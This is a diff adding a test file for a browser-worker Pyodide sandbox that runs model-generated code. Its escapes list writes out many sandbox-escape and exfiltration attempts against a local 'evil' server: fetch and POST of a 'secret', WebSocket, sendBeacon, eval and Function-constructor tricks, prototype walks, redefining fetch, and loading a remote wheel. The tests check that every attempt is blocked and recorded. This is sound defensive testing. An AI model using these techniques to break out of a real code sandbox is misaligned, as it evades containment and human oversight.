@@ -1,0 +1,395 @@
+// The browser-worker level in real Chromium: the test page (built with Vite, served from 127.0.0.1)
+// creates sandboxes whose Pyodide runs in a dedicated worker. Every way out of the worker is tried from
+// model code; each must fail, be recorded, and a real local "exfiltration" server must receive nothing.
+// One page is cross-origin isolated (COOP/COEP: KeyboardInterrupt through a SharedArrayBuffer), the
+// other is not (a runaway cell costs a fresh worker).
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Browser } from 'playwright-core';
+import type { CellResult } from '../src/sandbox/types.js';
+import {
+  buildTestPage,
+  launchChromium,
+  PageDriver,
+  serveTestPage,
+  type StaticServer,
+} from './browser/harness.js';
+import { DATA_PREFIX, type CreateResult } from './browser/page-api.js';
+import {
+  countingServer,
+  errors,
+  resultText,
+  streamText,
+  type CountingServer,
+} from './sandbox-helpers.js';
+
+const BLOCKED = 'not available in the localds sandbox';
+
+let browser: Browser;
+let plain: PageDriver;
+let isolated: PageDriver;
+let evil: CountingServer;
+const servers: StaticServer[] = [];
+let cleanupBuild: () => void = () => undefined;
+const boots: Record<string, CreateResult> = {};
+
+function booted(result: CreateResult): Extract<CreateResult, { bootMs: number }> {
+  if ('error' in result) throw new Error(result.error);
+  return result;
+}
+
+function refusedApis(result: CellResult): string[] {
+  return result.requests.filter((r) => !r.allowed).map((r) => r.method);
+}
+
+beforeAll(async () => {
+  evil = await countingServer();
+  const page = await buildTestPage();
+  cleanupBuild = page.cleanup;
+  servers.push(await serveTestPage(page.outDir, false), await serveTestPage(page.outDir, true));
+  browser = await launchChromium();
+  plain = await PageDriver.open(browser, servers[0]!.origin);
+  isolated = await PageDriver.open(browser, servers[1]!.origin);
+  // Cold start first, alone; the rest boot together.
+  boots.main = await plain.create('main', { outputLimitBytes: 64 * 1024 });
+  [boots.js, boots.iso] = await Promise.all([
+    plain.create('js', { codeGeneration: 'allowed' }),
+    isolated.create('iso', {}),
+  ]);
+}, 120_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await Promise.all(servers.map((s) => s.close()));
+  await evil?.close();
+  cleanupBuild();
+});
+
+describe('browser-worker sandbox: start', () => {
+  it('boots in stages (runtime, filesystem, packages, guards, kernel) and knows how it can interrupt', () => {
+    const main = booted(boots.main!);
+    expect(main.stages).toEqual(['runtime', 'filesystem', 'packages', 'guards', 'kernel']);
+    expect(main.interruptMode).toBe('terminate');
+    expect(booted(boots.iso!).interruptMode).toBe('interrupt-buffer');
+    console.log(
+      `browser worker cold start ${main.bootMs} ms; warm starts ${booted(boots.js!).bootMs} ms, ${booted(boots.iso!).bootMs} ms (parallel)`,
+    );
+  });
+
+  it('fails to start with a clear error naming a package the index cannot serve', async () => {
+    const origin = servers[0]!.origin;
+    const result = await plain.create('nopkg', {
+      packages: ['numpy'],
+      packageIndexUrl: `${origin}/no-packages/`,
+      lockFileUrl: `${origin}/pyodide/pyodide-lock.json`,
+    });
+    expect(result).toEqual({
+      error: expect.stringMatching(/could not load Pyodide packages numpy/),
+    });
+    await plain.dispose('nopkg');
+  }, 60_000);
+});
+
+describe('browser-worker sandbox: cells', () => {
+  it('returns execute_result, keeps state between cells, and reports errors with a traceback', async () => {
+    expect(resultText(await plain.run('main', 'x = 41\nx + 1'))).toBe('42');
+    expect(resultText(await plain.run('main', 'x * 2'))).toBe('82');
+    const failed = await plain.run('main', 'def f():\n    return 1 / 0\nf()');
+    expect(failed.status).toBe('error');
+    const [error] = errors(failed);
+    expect(error?.ename).toBe('ZeroDivisionError');
+    expect(error?.traceback.join('\n')).toMatch(/<cell-\d+>.*line 3[\s\S]*line 2, in f/);
+  });
+
+  it('answers pyfetch of the data URL from the main thread fetchHandler and records it without the key', async () => {
+    const result = await plain.run(
+      'main',
+      'from pyodide.http import pyfetch\n' +
+        `r = await pyfetch("${DATA_PREFIX}posthog_events?select=*&apikey=SECRETKEY")\n` +
+        'body = await r.json()\n(r.status, body["answeredBy"])',
+    );
+    expect(resultText(result)).toBe("(200, 'main-thread')");
+    expect(result.requests).toEqual([
+      expect.objectContaining({
+        method: 'GET',
+        url: `${DATA_PREFIX}posthog_events?select=*`,
+        status: 200,
+        allowed: true,
+      }),
+    ]);
+  });
+
+  it('lists and reads the files a cell writes in its working directory', async () => {
+    const result = await plain.run(
+      'main',
+      'import os\nos.makedirs("out", exist_ok=True)\n' +
+        'open("out/summary.json", "w").write(\'{"n": 1}\')\nos.getcwd()',
+    );
+    expect(resultText(result)).toBe("'/work'");
+    expect(result.filesWritten).toEqual([{ name: 'out/summary.json', size: 8 }]);
+    expect((await plain.listFiles('main')).map((f) => f.name)).toEqual(['out/summary.json']);
+    expect(await plain.readText('main', 'out/summary.json')).toBe('{"n": 1}');
+  });
+
+  it('truncates a flood of output at the limit with a marker', async () => {
+    const result = await plain.run('main', 'print("y" * 3_000_000)');
+    const text = streamText(result);
+    expect(text.startsWith('y'.repeat(64 * 1024))).toBe(true);
+    expect(text).toContain(`[truncated ${3_000_001 - 64 * 1024} bytes]`);
+    expect(text.length).toBeLessThan(64 * 1024 + 100);
+  });
+});
+
+describe('browser-worker sandbox: escapes (code generation blocked, the default)', () => {
+  const evilUrl = () => evil.url;
+  const evilHost = () => evil.url.replace('http://', '');
+  interface Escape {
+    name: string;
+    code: () => string;
+    /** the repr the cell ends with (a refused request answers 403), else the cell must raise */
+    result?: string;
+    /** text the error (or stdout) must contain */
+    says?: string;
+    /** the method or API name the refusal is recorded under */
+    recorded: string;
+  }
+  const obj = 'dict_converter=js.Object.fromEntries';
+  const escapes: Escape[] = [
+    {
+      name: 'js.fetch',
+      code: () => `import js\nr = await js.fetch("${evilUrl()}/js-fetch")\nr.status`,
+      result: '403',
+      recorded: 'GET',
+    },
+    {
+      name: 'pyfetch POST with a body',
+      code: () =>
+        `from pyodide.http import pyfetch\nr = await pyfetch("${evilUrl()}/pyfetch", method="POST", body="secret")\nr.status`,
+      result: '403',
+      recorded: 'POST',
+    },
+    {
+      name: 'js.fetch of a js.Request',
+      code: () =>
+        `import js\nfrom pyodide.ffi import to_js\n` +
+        `req = js.Request.new("${evilUrl()}/request", to_js({"method": "PUT", "keepalive": True}, ${obj}))\n` +
+        `r = await js.fetch(req)\nr.status`,
+      result: '403',
+      recorded: 'PUT',
+    },
+    {
+      name: 'asynchronous js.XMLHttpRequest',
+      code: () =>
+        'import js, asyncio\nfrom pyodide.ffi import create_proxy\n' +
+        'x = js.XMLHttpRequest.new()\n' +
+        `x.open("GET", "${evilUrl()}/xhr")\n` +
+        'done = asyncio.get_event_loop().create_future()\n' +
+        'x.onloadend = create_proxy(lambda e: done.set_result(x.status))\n' +
+        'x.send()\nawait done',
+      result: '403',
+      recorded: 'GET',
+    },
+    {
+      name: 'synchronous js.XMLHttpRequest',
+      code: () =>
+        `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "${evilUrl()}/sync-xhr", False)`,
+      says: 'synchronous XMLHttpRequest is not available',
+      recorded: 'XMLHttpRequest (synchronous)',
+    },
+    {
+      name: 'pyodide.http.pyxhr (synchronous XHR client)',
+      code: () => `from pyodide.http import pyxhr\npyxhr.get("${evilUrl()}/pyxhr")`,
+      says: 'synchronous XMLHttpRequest is not available',
+      recorded: 'XMLHttpRequest (synchronous)',
+    },
+    ...(
+      [
+        ['WebSocket', () => `js.WebSocket.new("ws://${evilHost()}/ws")`],
+        ['WebSocketStream', () => `js.WebSocketStream.new("ws://${evilHost()}/wss")`],
+        ['WebTransport', () => `js.WebTransport.new("https://${evilHost()}/wt")`],
+        ['EventSource', () => `js.EventSource.new("${evilUrl()}/sse")`],
+        ['importScripts', () => `js.importScripts("${evilUrl()}/script.js")`],
+        ['Worker', () => `js.Worker.new("${evilUrl()}/worker.js")`],
+        ['SharedWorker', () => `js.SharedWorker.new("${evilUrl()}/shared.js")`],
+        ['navigator.sendBeacon', () => `js.navigator.sendBeacon("${evilUrl()}/beacon", "secret")`],
+        ['indexedDB', () => 'js.indexedDB.open("exfil")'],
+        ['caches', () => 'js.caches.open("exfil")'],
+        ['BroadcastChannel', () => 'js.BroadcastChannel.new("exfil")'],
+        ['navigator.storage', () => 'js.navigator.storage.getDirectory()'],
+        ['RTCPeerConnection', () => 'js.RTCPeerConnection.new()'],
+        ['FontFace', () => `js.FontFace.new("x", "url(${evilUrl()}/font.woff)")`],
+        ['close', () => 'js.close()'],
+        ['eval', () => `js.eval("fetch('${evilUrl()}/eval')")`],
+        ['Function', () => 'js.Function("return fetch")'],
+        [
+          'Function.prototype.constructor',
+          () => 'js.Object.getPrototypeOf(js.Math.max).constructor("return fetch")',
+        ],
+        [
+          'AsyncFunction.prototype.constructor',
+          () => 'js.Object.getPrototypeOf(js.fetch).constructor("return fetch")',
+        ],
+        ['setTimeout(string)', () => `js.setTimeout("fetch('${evilUrl()}/timer')", 0)`],
+        [
+          'postMessage',
+          () =>
+            'from pyodide.ffi import to_js\n' +
+            `js.postMessage(to_js({"id": "forged", "type": "RAW", "value": {}}, ${obj}))`,
+        ],
+      ] as const
+    ).map(([api, call]) => ({
+      name: `js.${api}`,
+      code: () => `import js\n${call()}`,
+      recorded: api,
+    })),
+    {
+      name: 'run_js',
+      code: () => `from pyodide.code import run_js\nrun_js("self.fetch = null")`,
+      recorded: 'eval',
+    },
+    {
+      name: 'postMessage found by walking the global scope’s prototypes',
+      code: () =>
+        'import js\nproto = js.self\n' +
+        'while proto is not None and not js.Object.prototype.hasOwnProperty.call(proto, "postMessage"):\n' +
+        '    proto = js.Object.getPrototypeOf(proto)\n' +
+        'js.Reflect.apply((proto or js.self).postMessage, js.self, ["forged"])',
+      recorded: 'postMessage',
+    },
+    {
+      name: 'navigator.storage getter taken from the prototype',
+      code: () =>
+        'import js\nd = js.Object.getOwnPropertyDescriptor(js.Object.getPrototypeOf(js.navigator), "storage")\n' +
+        'd.get.call(js.navigator)',
+      recorded: 'navigator.storage',
+    },
+    {
+      name: 'pyodide_js.loadPackage of a wheel URL',
+      code: () =>
+        `import pyodide_js\nawait pyodide_js.loadPackage("${evilUrl()}/evil-1.0-py3-none-any.whl")`,
+      says: 'closed once model code runs',
+      recorded: 'pyodide.loadPackage',
+    },
+    {
+      name: 'restoring fetch with defineProperty, Reflect, delete and assignment',
+      code: () =>
+        `import js\nfrom pyodide.ffi import to_js\nd = to_js({"value": js.Math.max, "writable": True}, ${obj})\n` +
+        'try:\n    js.Object.defineProperty(js.self, "fetch", d)\nexcept Exception as e:\n    print("defineProperty:", e)\n' +
+        'print("Reflect.defineProperty:", js.Reflect.defineProperty(js.self, "fetch", d))\n' +
+        'print("Reflect.deleteProperty:", js.Reflect.deleteProperty(js.self, "fetch"))\n' +
+        'try:\n    js.self.fetch = js.Math.max\nexcept Exception as e:\n    print("assignment:", type(e).__name__)\n' +
+        `r = await js.fetch("${evilUrl()}/after-restore")\nr.status`,
+      result: '403',
+      says: 'Cannot redefine property: fetch',
+      recorded: 'GET',
+    },
+  ];
+
+  for (const escape of escapes) {
+    it(`refuses ${escape.name} and records it`, async () => {
+      const result = await plain.run('main', escape.code());
+      if (escape.result !== undefined) {
+        expect(resultText(result)).toBe(escape.result);
+        if (escape.says) expect(streamText(result)).toContain(escape.says);
+      } else {
+        expect(result.status).toBe('error');
+        expect(errors(result)[0]?.evalue).toContain(escape.says ?? BLOCKED);
+      }
+      expect(refusedApis(result)).toContain(escape.recorded);
+    });
+  }
+
+  it('leaves no path from js or pyodide_js to any original it replaced', async () => {
+    const report = await plain.audit('main');
+    expect(report.visited).toBeGreaterThan(10_000);
+    expect(report.leaks).toEqual([]);
+  }, 60_000);
+
+  it('let nothing reach the exfiltration server', async () => {
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(evil.hits()).toBe(0);
+  });
+});
+
+describe('browser-worker sandbox: the locks hold even when model code runs arbitrary JS', () => {
+  const js = (code: string) =>
+    plain.run('js', `from pyodide.code import run_js\nrun_js(${JSON.stringify(code)})`);
+
+  it('cannot reassign, redefine or delete a guarded global', async () => {
+    const strictAssign = await js(
+      "'use strict'; try { self.fetch = function () {}; 'assigned' } catch (e) { e.name }",
+    );
+    expect(resultText(strictAssign)).toBe("'TypeError'");
+    const redefine = await js(
+      "try { Object.defineProperty(self, 'fetch', { value: () => 1 }); 'redefined' } catch (e) { e.name }",
+    );
+    expect(resultText(redefine)).toBe("'TypeError'");
+    const deleted = await js(
+      "[delete self.fetch, delete self.XMLHttpRequest, Reflect.deleteProperty(self, 'WebSocket'), Reflect.deleteProperty(self, 'importScripts')].join()",
+    );
+    expect(resultText(deleted)).toBe("'false,false,false,false'");
+  });
+
+  it('finds only guarded versions through fresh function realms, Reflect and prototype walks', async () => {
+    const realm = await js(
+      "[new Function('return this')().fetch === fetch, (0, eval)('this').WebSocket === WebSocket, Reflect.get(globalThis, 'importScripts') === importScripts].join()",
+    );
+    expect(resultText(realm)).toBe("'true,true,true'");
+    const walk = await plain.run(
+      'js',
+      'from pyodide.code import run_js\n' +
+        `statuses = await run_js("""(async () => { const out = []; for (let p = self; p; p = Object.getPrototypeOf(p)) { const d = Object.getOwnPropertyDescriptor(p, 'fetch'); if (d) out.push((await d.value('${evil.url}/walk')).status); } return out.join(); })()""")\n` +
+        'statuses',
+    );
+    expect(resultText(walk)).toMatch(/^'403(,403)*'$/);
+    expect(refusedApis(walk)).toContain('GET');
+    const socket = await js(
+      `try { new WebSocket('ws://${evil.url.slice(7)}/js'); 'opened' } catch (e) { e.message }`,
+    );
+    expect(resultText(socket)).toContain(BLOCKED);
+    expect(refusedApis(socket)).toContain('WebSocket');
+  });
+
+  it('still leaves no path to an original, and nothing reached the exfiltration server', async () => {
+    expect((await plain.audit('js')).leaks).toEqual([]);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(evil.hits()).toBe(0);
+  }, 60_000);
+});
+
+describe('browser-worker sandbox: runaway cells', () => {
+  it('without cross-origin isolation: terminates, restarts a clean worker and keeps earlier files', async () => {
+    await plain.run('main', 'open("kept.txt", "w").write("kept")\nbefore = 1');
+    const result = await plain.run('main', 'while True:\n    pass', 1500);
+    expect(result.status).toBe('timeout');
+    expect(result.stateLost).toBe(true);
+    expect(errors(result)[0]?.evalue).toMatch(/ran longer than 1500 ms.*state was lost/);
+    const after = await plain.run('main', 'print(open("kept.txt").read())\nbefore');
+    expect(streamText(after)).toBe('kept\n');
+    expect(errors(after)[0]?.ename).toBe('NameError');
+  }, 60_000);
+
+  it('cross-origin isolated: interrupts with KeyboardInterrupt and keeps the state', async () => {
+    await isolated.run('iso', 'kept = 7');
+    const result = await isolated.run('iso', 'while True:\n    pass', 1500);
+    expect(result.status).toBe('interrupted');
+    expect(result.stateLost).toBe(false);
+    expect(errors(result).map((e) => e.ename)).toEqual(['KeyboardInterrupt', 'KeyboardInterrupt']);
+    expect(resultText(await isolated.run('iso', 'kept'))).toBe('7');
+  }, 60_000);
+
+  it('cross-origin isolated: a cell waiting outside Python falls back to a fresh worker', async () => {
+    const result = await isolated.run('iso', 'import asyncio\nawait asyncio.Future()', 1000);
+    expect(result.status).toBe('timeout');
+    expect(result.stateLost).toBe(true);
+    expect(errors(await isolated.run('iso', 'kept'))[0]?.ename).toBe('NameError');
+  }, 60_000);
+
+  it('restarts after a cell reaches the wasm memory ceiling', async () => {
+    booted(await plain.create('mem', { wasmMemoryMb: 256 }));
+    const result = await plain.run('mem', 'hog = bytearray(300 * 1024 * 1024)');
+    expect(result.stateLost).toBe(true);
+    expect(errors(result).map((e) => e.ename)).toEqual(['MemoryError', 'KernelRestarted']);
+    expect(resultText(await plain.run('mem', '1 + 1'))).toBe('2');
+    await plain.dispose('mem');
+  }, 90_000);
+});
